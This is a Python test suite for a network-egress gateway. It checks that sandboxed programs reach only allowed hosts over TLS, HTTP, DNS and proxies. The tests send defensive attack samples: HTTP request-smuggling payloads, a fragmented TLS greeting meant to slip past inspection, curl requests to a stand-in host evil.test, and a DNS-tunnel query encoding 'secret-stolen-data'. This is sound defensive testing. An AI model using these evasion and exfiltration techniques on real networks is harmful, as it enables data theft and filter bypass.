"""What the gateway looks at: TLS names, HTTP hosts, the two proxies, DNS. Each refusal is one line
of a report."""
import os
import shutil

from harness.world import THIRD, World, denial, policy

TLS = r"""
import socket, ssl, sys
def tls(connect, name, port=443, first=b""):
    context = ssl.create_default_context(cafile="ca.pem")
    context.check_hostname = False
    try:
        s = socket.create_connection((connect, port), 10)
        s = context.wrap_socket(s, server_hostname=name)
        s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
        return "got" if s.recv(100) else "end"
    except ssl.SSLError as error:
        return "SSLError"
    except OSError as error:
        return type(error).__name__
def raw(connect, port, *parts):
    import time
    s = socket.create_connection((connect, port), 10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        for part in parts:
            s.sendall(part)
        got = b""
        while data := s.recv(65536):
            got += data
        return got or "end"
    except OSError as error:
        return type(error).__name__
def hello(name):
    "The ClientHello that this Python would send."
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context(cafile="ca.pem")
    o = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
def records(message, size):
    "The same handshake in many TLS records."
    body = message[5:]
    return b"".join(b"\x16\x03\x01" + len(body[i:i + size]).to_bytes(2, "big") + body[i:i + size]
                    for i in range(0, len(body), size))
def answered(r):
    return "ServerHello" if isinstance(r, bytes) and r[:1] == b"\x16" else r
"""


def inside(t, world, script, rules=None, ca=True, **network):
    ws = t.workspace({"script.py": TLS + script})
    if ca:
        shutil.copy(os.path.join(world.certificates, "ca.pem"), ws)
    r = world.ward("run", "-p", policy(t, rules, **network), "--", "/usr/bin/python3", "script.py",
                   cwd=ws, report=True,
                   timeout=60)
    t.equal(r.rc, 0, "exit code")
    return r


def test_tls_names(t):
    """The name in the greeting is the one that was connected to, however the greeting is cut;
    nothing else passes."""
    world = World(t)
    r = inside(t, world, r"""
print("right", tls("web.test", "web.test"))
print("wrong", tls("web.test", "evil.test"))
print("none", tls("web.test", None))
print("plain", raw("web.test", 443, b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n"))
print("ssh", raw("web.test", 443, b"SSH-2.0-x\r\n"))
print("bytes", answered(raw("web.test", 443, *[bytes([b]) for b in hello("web.test")], b"\x15\x03\x03\x00\x02\x02\x28")))
print("records", answered(raw("web.test", 443, records(hello("web.test"), 7), b"\x15\x03\x03\x00\x02\x02\x28")))
print("wrong-records", answered(raw("web.test", 443, records(hello("evil.test"), 7))))
""", ca=True)
    got = dict(line.split(" ", 1) for line in r.out.splitlines())
    t.equal(got["right"], "got", "the right name")
    t.equal(got["bytes"], "ServerHello", "a greeting in single bytes")
    t.equal(got["records"], "ServerHello", "a greeting over many records")
    for name in ("wrong", "none", "plain", "ssh", "wrong-records"):
        t.check("Reset" in got[name] or got[name] in ("SSLError", "end"), f"{name}: {got[name]}")
    t.equal([line for line in world.log() if line.startswith("tls") and "evil" in line], [],
            "names that came out")
    t.check(not any(line.startswith("http None") for line in world.log()),
            "plain HTTP came out at a TLS port")
    reasons = " ".join(d["why"] for d in r.report["denials"])
    for part in ("names a different server", "has no server name", "not TLS"):
        t.contains(reasons, part, "reasons")


def test_http_hosts(t):
    """On port 80 every request is for the host that was connected to."""
    world = World(t)
    r = inside(t, world, r"""
req = lambda host, more="": ("GET /%s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (host, host, more)).encode()
end = "Connection: close\r\n"
show = lambda r: r if isinstance(r, str) else (r.split(b"\r\n")[0].decode() + " %d" % r.count(b"hello from"))
print("right|", show(raw("web.test", 80, req("web.test"), req("web.test", end))))
print("wrong|", show(raw("web.test", 80, req("evil.test", end))))
print("second|", show(raw("web.test", 80, req("web.test"), req("evil.test", end))))
print("two|", show(raw("web.test", 80, b"GET / HTTP/1.1\r\nHost: web.test\r\nHost: evil.test\r\n\r\n")))
print("absolute|", show(raw("web.test", 80, b"GET http://evil.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n")))
print("smuggle|", show(raw("web.test", 80, b"POST / HTTP/1.1\r\nHost: web.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n")))
print("space|", show(raw("web.test", 80, b"POST / HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n")))
print("tls|", show(raw("web.test", 80, hello("web.test"))))
print("connect|", show(raw("web.test", 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: web.test\r\n\r\n")))
""")
    got = dict(line.split("| ", 1) for line in r.out.splitlines())
    t.equal(got["right"], "HTTP/1.1 200 OK 2", "two right requests")
    for name in ("wrong", "second", "two", "absolute", "smuggle", "space", "tls", "connect"):
        t.check("HTTP/1.1 200 OK 2" not in got[name], f"{name}: {got[name]}")
    t.check(not any("evil" in line for line in world.log()),
            f"another host came out: {world.log()}")


def test_dns(t):
    """The resolver inside: A only, nothing upstream for what is denied, rubbish survives nobody but
    itself."""
    world = World(t)
    r = inside(t, world, r"""
import os, struct
def ask(name, kind, port=53, raw=None):
    q = raw if raw is not None else struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + \
        b"".join(bytes([len(l)]) + l.encode()
                 for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect(("127.0.0.53", port))
    s.send(q)
    try:
        a = s.recv(4096)
    except TimeoutError:
        return "silent"
    return "rcode %d answers %d" % (a[3] & 15, struct.unpack(">H", a[6:8])[0])
def stream(q):
    s = socket.create_connection(("127.0.0.53", 53), 5)
    s.sendall(struct.pack(">H", len(q)) + q)
    try:
        a = s.recv(4096)
        return "rcode %d" % (a[5] & 15) if a else "end"
    except OSError as error:
        return type(error).__name__
for kind in (1, 28, 65, 64, 16, 255):
    print("allowed-%d|" % kind, ask("web.test", kind))
print("denied-1|", ask("evil.test", 1))
print("tunnel-16|", ask("c2VjcmV0LXN0b2xlbi1kYXRh." * 4 + "evil.test", 16))
print("tunnel-allowed|", ask("c2VjcmV0.notlisted.test", 1))
for name, rubbish in (("short", b"x"),
                      ("loop", struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"),
                      ("two", struct.pack(">HHHHHH", 7, 0x100, 2, 0, 0, 0) + b"\1a\0\0\1\0\1" * 2),
                      ("zeros", bytes(3000))):
    print("bad-%s|" % name, ask("", 1, raw=rubbish))
for i in range(300):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(os.urandom(i),
                                                                   ("127.0.0.53", 53)); s.close()
print("stream|", stream(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\3web\4test\0\0\1\0\1"))
print("stream-bad|", stream(os.urandom(60000)))
print("still|", socket.gethostbyname("web.test"))
try:
    print("elsewhere|", ask("web.test", 1) and socket.create_connection(("8.8.8.8", 53), 3))
except OSError as error:
    print("elsewhere|", type(error).__name__)
""")
    got = dict(line.split("| ", 1) for line in r.out.splitlines())
    t.equal(got["allowed-1"], "rcode 0 answers 1", "A")
    for kind in (28, 65, 64, 16):
        t.equal(got[f"allowed-{kind}"], "rcode 0 answers 0", f"type {kind} of an allowed name")
    t.equal(got["denied-1"], "rcode 3 answers 0", "a denied name")
    t.equal(got["tunnel-16"][:7], "rcode 3", "a tunnel")
    t.equal(got["tunnel-allowed"][:7], "rcode 3", "another name")
    t.equal(got["stream"], "rcode 0", "over TCP")
    t.check(got["still"].startswith("198.18."), f"after rubbish: {got['still']}")
    t.equal(got["elsewhere"], "ConnectionRefusedError", "another resolver")
    t.equal([line for line in world.log() if line.startswith("dns")], [],
            "questions upstream without a connection")


def test_proxies(t):
    """CONNECT and SOCKS5h inside, with the same rules."""
    world = World(t)
    ws = t.workspace()
    shutil.copy(os.path.join(world.certificates, "ca.pem"), ws)
    c = "curl -sS --max-time 10 --cacert ca.pem"
    script = "\n".join([
        f"echo connect $({c} -x http://127.0.0.1:3128 https://web.test/ 2>&1)",
        f"echo get $({c} -x http://127.0.0.1:3128 http://web.test/ 2>&1)",
        f"echo socks $({c} -x socks5h://127.0.0.1:1080 https://web.test/ 2>&1)",
        f"echo evil-connect $({c} -x http://127.0.0.1:3128 https://evil.test/ 2>&1)",
        f"echo evil-get $({c} -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:3128 "
        "http://evil.test/ 2>&1)",
        f"echo evil-socks $({c} -x socks5h://127.0.0.1:1080 https://evil.test/ 2>&1)",
        f"echo two $({c} -x http://127.0.0.1:3128 http://web.test/ http://www.web.test/ "
        "http://web.test/ 2>&1)",
        f"echo two-evil $({c} -x http://127.0.0.1:3128 http://web.test/ http://evil.test/ 2>&1)",
        f"echo resolved $({c} -x socks5://127.0.0.1:1080 http://web.test/ 2>&1)",
        f"echo literal $({c} -x socks5h://127.0.0.1:1080 http://{THIRD}/ 2>&1)",
        f"echo name-inside $({c} -k -x http://127.0.0.1:3128 --connect-to "
        "evil.test:443:web.test:443 https://evil.test/ 2>&1)",
    ])
    r = world.ward("run", "-p", policy(t, ["web.test", "web.test:80", "*.web.test:80"]), "--",
                   "/bin/sh", "-c", script, cwd=ws, report=True,
                   timeout=60)
    got = dict(line.split(" ", 1) for line in r.out.splitlines())
    for name in ("connect", "get", "socks"):
        t.contains(got[name], "hello from web.test", name)
    t.equal(got["two"], "hello from web.test hello from www.web.test hello from web.test",
            "hosts one after another over one connection")
    t.equal(got["two-evil"], "hello from web.test ward: the policy does not allow this destination",
            "the same with another host")
    t.contains(got["resolved"], "hello from web.test",
               "SOCKS5 with an address that the resolver inside gave")
    t.contains(got["evil-connect"], "403", "CONNECT to another host")
    t.equal(got["evil-get"], "403", "GET of another host")
    t.check("hello" not in got["evil-socks"] and "hello" not in got["literal"]
            and "hello" not in got["name-inside"], r.out)
    t.check(not any("evil" in line or THIRD in line for line in world.log()),
            f"another host came out: {world.log()}")
    denial(t, r.report, "connection to evil.test:443")
    denial(t, r.report, "connection to evil.test:80")


def test_host_services(t):
    """A service of the host's loopback under its name, and nothing else there."""
    world = World(t)
    ws = t.workspace()
    echo = "import socketserver as s\nclass H(s.BaseRequestHandler):\n def handle(self): self.request.sendall(b'from the host')\n" \
           "a = [s.TCPServer(('127.0.0.1', p), H) for p in (7001, 7002)]\nprint('up', flush=True)\n" \
           "import threading\n[threading.Thread(target=x.serve_forever).start() for x in a]"
    server = t.popen(["nsenter", "-t", str(world.home), "-n", "/usr/bin/python3", "-c", echo],
                     root=True)
    server.stdout.readline()
    script = "import socket\nfor h, p in (('cache', 7001), ('cache', 7002), ('127.0.0.1', 7001), ('localhost', 7001)):\n" \
             " try: print(h, p, socket.create_connection((h, p), 5).recv(50).decode())\n" \
             " except OSError as e: print(h, p, type(e).__name__)"
    r = world.ward("run", "-p", policy(t, ["web.test"], host_services=["cache=127.0.0.1:7001"]),
                   "--", "/usr/bin/python3",
                   "-c", script, cwd=ws, report=True)
    t.equal(r.out.splitlines(), ["cache 7001 from the host", "cache 7002 ConnectionRefusedError",
                                 "127.0.0.1 7001 ConnectionRefusedError",
                                 "localhost 7001 ConnectionRefusedError"], "answers")
